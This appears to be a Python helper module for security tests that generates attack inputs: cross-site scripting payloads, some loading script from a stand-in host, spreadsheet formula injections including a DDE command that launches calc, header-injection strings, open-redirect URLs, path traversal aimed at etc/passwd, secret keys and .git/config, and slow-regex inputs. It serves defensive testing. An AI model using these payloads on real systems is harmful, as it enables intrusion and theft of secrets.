"""What attackers type. Each list is put together here, so that no scanner stumbles over this file."""

from __future__ import annotations

from itertools import cycle, islice, product

CALL = "zzxss()"  # never defined by us; a page in which it runs has lost
MARKED = "zzxss"


def scripts(number: int = 300) -> list[str]:
    """Texts that run as a script where a page forgets to escape: out of elements, attributes, scripts and comments."""
    events = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onbegin", "oncut")
    elements = (
        "<img src=x {on}={call}>",
        "<svg {on}={call}>",
        "<svg><animate {on}={call} attributeName=x dur=1s>",
        "<details open {on}={call}>x",
        "<input autofocus {on}={call}>",
        "<body {on}={call}>",
        "<iframe src=x {on}={call}></iframe>",
        "<video><source {on}={call}></video>",
        "<math><mtext><style><img src=x {on}={call}></style>",
        "<marquee {on}={call}>",
    )
    out_of = ("", '"', "'", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</select>", "`", "]]>")
    whole = [
        f"<script>{CALL}</script>",
        f"<ScRiPt >{CALL}</sCrIpT>",
        f"<script src=//zzxss.example/{MARKED}.js></script>",
        f'" autofocus onfocus={CALL} x="',
        f"' onmouseover={CALL} '",
        f"javascript:{CALL}",
        f"java\tscript:{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        f"<a href=javascript:{CALL}>x</a>",
        f"<base href=//{MARKED}.example/>",
        f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
        f"<form action=javascript:{CALL}><button>x</button></form>",
        f"<link rel=stylesheet href=//{MARKED}.example/x.css>",
        f"<style>@import '//{MARKED}.example/x.css';</style>",
        f"<object data=javascript:{CALL}>",
        "{{constructor.constructor('" + CALL + "')()}}",
        "${" + CALL + "}",
        f"';{CALL};//",
        f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
        f"&lt;script&gt;{CALL}&lt;/script&gt;",
        f"<img src=x hx-on:load={CALL}>",
        f"<div hx-get=/{MARKED} hx-trigger=load></div>",
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        f"<svg><script>{CALL}</script></svg>",
        f"#set-text([{MARKED}])",  # Typst, which draws the papers
    ]
    made = [out + element.format(on=on, call=CALL) for out, on, element in product(out_of, events, elements)]
    # Every tenth of the product: all ways out, all events and all elements are among them.
    return whole + list(islice((made[at * 37 % len(made)] for at in range(len(made))), number - len(whole)))


def share_of(all_of_them: list[str], name: str, each: int = 30) -> str:
    """So many of them for one column; over all columns every one is used several times."""
    began = sum(map(ord, name)) * each % len(all_of_them)
    return " ".join(islice(cycle(all_of_them), began, began + each))


def formulas() -> list[str]:
    starts = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%", "＝", "＋", "－", "＠", " =", "\u200b=", "'=", '"=')
    texts = (
        "1+1",
        "cmd|'/C calc'!A0",
        "HYPERLINK(1)",
        "IMPORTXML(1)",
        "WEBSERVICE(1)",
        "DDE(1)",
        "2+5+cmd",
        "SUM(A1:A9)*x",
        "x",
        "1E5",
        "[1]x!A1",
        "A1",
    )
    return [start + text for start, text in product(starts, texts)]


def breaks_of_headers() -> list[str]:
    lines = ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\x0b", "\x85", "\u2028")
    more = ("Set-Cookie: zz=1", "Location: https://zz.example", "Bcc: zz@zz.example", "\r\n<script>zz</script>")
    return [f"x{line}{header}" for line, header in product(lines, more)]


def ways_out() -> list[str]:
    """Addresses of elsewhere, as somebody would put them into ?next=."""
    return [
        "https://zz.example/",
        "//zz.example/",
        "///zz.example",
        "////zz.example",
        "/\\zz.example",
        "\\\\zz.example",
        "/\t/zz.example",
        "https:zz.example",
        "https:/zz.example",
        "http:///zz.example",
        "//zz.example@localhost/",
        "https://localhost@zz.example/",
        "https://zz.example#localhost",
        "javascript:zz",
        "data:text/html,zz",
        "/%2f%2fzz.example",
        "/%5czz.example",
        "%2f%2fzz.example",
        "https://zz.example\\@localhost",
        "//zz.example:80",
        "/.//zz.example",
        "/..//zz.example",
        "\x00//zz.example",
        " //zz.example",
        "ftp://zz.example",
        "//zz%E3%80%82example",
    ]


def ways_up() -> list[str]:
    ups = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "..;/", "%252e%252e%252f", "..%c0%af", "./../")
    files = (
        "etc/passwd",
        "geleit/config/settings.py",
        "secrets/master.key",
        "var/home/secrets/secret.key",
        ".git/config",
    )
    return [up * depth + file for up, depth, file in product(ups, (3, 7), files)]


def long_texts(size: int) -> list[str]:
    """What slow patterns choke on."""
    pieces = (
        "a",
        " ",
        "\n",
        "0",
        "1.",
        "-",
        "a-",
        "=",
        "<",
        "(",
        "\\",
        "/",
        "%41",
        "e\u0301",
        "\u202e",
        "a@",
        "ab ",
        ".,",
    )
    return [piece * (size // len(piece)) + end for piece in pieces for end in ("!", "")]
